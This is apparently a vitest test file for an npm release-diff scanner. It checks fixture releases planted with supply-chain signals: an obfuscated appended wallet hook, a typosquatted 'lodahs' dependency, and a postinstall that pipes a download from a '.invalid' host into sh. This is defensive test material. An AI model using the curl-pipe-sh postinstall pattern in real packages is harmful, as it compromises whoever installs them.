import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchPackument, fetchVersionTarball, predecessorOf, versionInfo, type NpmConfig, type Packument } from '../index.js';
import { releaseScenarios, startScenarioRegistry, type ReleaseScenario } from './release-scenarios.js';
import { testNpmConfig } from './setup.js';
import type { TestRegistry } from './registry-server.js';

/**
 * The scenarios are what issue 5 asks for, and the test registry serves them so that the registry
 * client reads each one the way a release diff will: `from` is `to`'s predecessor, and the planted
 * signal is in the packument or tarball.
 */
let registry: TestRegistry;
let work: string;
let config: NpmConfig;
const packuments = new Map<string, Packument>();

beforeAll(async () => {
  registry = await startScenarioRegistry();
  work = mkdtempSync(join(tmpdir(), 'cw-scenarios-test-'));
  config = await testNpmConfig(work, registry.url);
});
afterAll(async () => {
  await registry.close();
  rmSync(work, { recursive: true, force: true });
});

async function full(name: string): Promise<Packument> {
  if (!packuments.has(name)) packuments.set(name, await fetchPackument(name, { config, full: true, cache: false }));
  return packuments.get(name)!;
}

const byId = (id: string): ReleaseScenario => releaseScenarios.find((s) => s.id === id)!;
const text = (tgz: Buffer) => gunzipSync(tgz).toString('utf8');

it('holds the five releases issue 5 lists, with the verdicts it expects', () => {
  expect(releaseScenarios.map((s) => [s.name, s.from, s.to, s.expected])).toEqual([
    ['tidy-strings', '1.0.0', '1.0.1', 'clean'],
    ['paint-kit', '5.6.0', '5.6.1', 'malicious'],
    ['net-helper', '2.0.0', '2.0.1', 'malicious'],
    ['log-lite', '3.1.0', '3.1.1', 'suspicious'],
    ['fmt-tools', '1.4.0', '1.4.1', 'suspicious'],
  ]);
  expect(new Set(releaseScenarios.map((s) => s.id)).size).toBe(releaseScenarios.length);
});

describe.each(releaseScenarios.map((s) => [s.id, s] as const))('%s', (_id, s) => {
  it('has a release cadence: at least two releases before `from`, in time order, all before `now`', () => {
    const times = s.versions.map((v) => Date.parse(v.time!));
    expect(times.every((t, i) => i === 0 || t > times[i - 1]!)).toBe(true);
    expect(Math.max(...[...s.versions, ...s.others].map((v) => Date.parse(v.time!)))).toBeLessThan(Date.parse(s.now));
    const versions = s.versions.map((v) => v.version);
    expect(versions.indexOf(s.from)).toBeGreaterThanOrEqual(2);
    expect(versions.indexOf(s.to)).toBe(versions.length - 1);
  });

  it('is served so that `from` is the predecessor of `to`, and both tarballs verify', async () => {
    const p = await full(s.name);
    expect(Object.keys(p.versions)).toEqual(s.versions.map((v) => v.version));
    expect(predecessorOf(p, s.to)).toBe(s.from);
    for (const version of [s.from, s.to]) {
      const got = await fetchVersionTarball(p, version, { config, cache: false });
      expect(got.version).toBe(version);
    }
  });

  it('names no host that could resolve', () => {
    const all = [...s.versions, ...s.others].flatMap((v) => [JSON.stringify(v.manifest ?? {}), JSON.stringify(v.publisher ?? {}), ...Object.values(v.files ?? {})]).join('\n');
    const hosts = [...all.matchAll(/[a-z][a-z0-9+.-]*:\/\/(?:[^\s/@"'`]*@)?([^\s/:"'`?#)\\]+)/gi), ...all.matchAll(/@([a-z0-9.-]+\.[a-z]+)/gi)].map((m) => m[1]!.toLowerCase());
    expect(hosts.filter((h) => !/\.(invalid|test)$/.test(h))).toEqual([]);
  });
});

describe('planted signals', () => {
  it('tidy-strings 1.0.1: same publisher, maintainers, provenance and dependencies as 1.0.0', async () => {
    const p = await full('tidy-strings');
    const [from, to] = [versionInfo(p, '1.0.0'), versionInfo(p, '1.0.1')];
    expect(to.publisher).toEqual(from.publisher);
    expect(to.maintainers).toEqual(from.maintainers);
    expect(from.provenance).not.toBeNull();
    expect(to.provenance).toEqual(from.provenance === null ? null : { ...from.provenance, attestationsUrl: `${registry.url}-/npm/v1/attestations/tidy-strings@1.0.1` });
    expect(p.versions['1.0.1']!.manifest['scripts']).toEqual(p.versions['1.0.0']!.manifest['scripts']);
  });

  it('paint-kit 5.6.1: index.js of 5.6.0 plus one appended obfuscated line, metadata unchanged', async () => {
    const s = byId('appended-wallet-hook');
    const [from, to] = [s.versions.at(-2)!.files!['index.js']!, s.versions.at(-1)!.files!['index.js']!];
    expect(to.startsWith(from)).toBe(true);
    const appended = to.slice(from.length);
    expect(appended.trimEnd().split('\n')).toHaveLength(1);
    expect(appended).toMatch(/^const _0x[0-9a-f]+=_0x/);
    expect(appended).toContain("'cwFixtureArmed'");
    const p = await full('paint-kit');
    expect(text((await fetchVersionTarball(p, '5.6.1', { config, cache: false })).data)).toContain(appended.trimEnd());
    const [a, b] = [versionInfo(p, '5.6.0'), versionInfo(p, '5.6.1')];
    expect([b.publisher, b.maintainers, b.provenance]).toEqual([a.publisher, a.maintainers, a.provenance]);
  });

  it('net-helper 2.0.1: a postinstall that pipes a download into sh, which the abbreviated packument flags too', async () => {
    const p = await full('net-helper');
    expect(p.versions['2.0.0']!.manifest['scripts']).toEqual({ test: 'node --test' });
    expect(p.versions['2.0.1']!.manifest['scripts']).toEqual({ test: 'node --test', postinstall: 'curl -fsSL https://setup.net-helper.invalid/install.sh | sh' });
    const corgi = await fetchPackument('net-helper', { config, cache: false });
    expect(Object.entries(corgi.versions).filter(([, v]) => v.manifest['hasInstallScript'] === true).map(([k]) => k)).toEqual(['2.0.1']);
  });

  it('log-lite 3.1.1: a first-time publisher, without the attestations 3.0.0 and 3.1.0 had', async () => {
    const p = await full('log-lite');
    const info = (v: string) => versionInfo(p, v);
    expect(['2.4.0', '2.5.0', '3.0.0', '3.1.0', '3.1.1'].map((v) => info(v).provenance !== null)).toEqual([false, false, true, true, false]);
    const publisher = info('3.1.1').publisher!;
    expect(['2.4.0', '2.5.0', '3.0.0', '3.1.0'].map((v) => info(v).publisher!.name)).not.toContain(publisher.name);
    expect(info('3.1.0').maintainers.map((m) => m.name)).toEqual(['marta-silva']);
    expect(info('3.1.1').maintainers.map((m) => m.name)).toEqual(['marta-silva', 'loglite-release']);
    expect(p.distTags).toEqual({ latest: '3.1.1', 'v2-lts': '2.5.0' });
    expect(p.maintainers.map((m) => m.name)).toEqual(['marta-silva', 'loglite-release']);
  });

  it('fmt-tools 1.4.1: a new dependency lodahs, one version old by a day, next to a years-old lodash', async () => {
    const s = byId('young-typo-dependency');
    const p = await full('fmt-tools');
    expect(p.versions['1.4.0']!.manifest['dependencies']).toEqual({ lodash: '^4.17.21' });
    expect(p.versions['1.4.1']!.manifest['dependencies']).toEqual({ lodash: '^4.17.21', lodahs: '^1.0.0' });
    const lodahs = await full('lodahs');
    expect(Object.keys(lodahs.versions)).toEqual(['1.0.0']);
    expect(Date.parse(s.now) - Date.parse(lodahs.time['created']!)).toBe(24 * 3600 * 1000);
    expect(Date.parse(lodahs.time['1.0.0']!)).toBeLessThan(Date.parse(p.time['1.4.1']!));
    const lodash = await full('lodash');
    expect(lodash.distTags['latest']).toBe('4.17.21');
    expect(Date.parse(lodash.time['created']!)).toBeLessThan(Date.parse('2021-01-01'));
  });
});
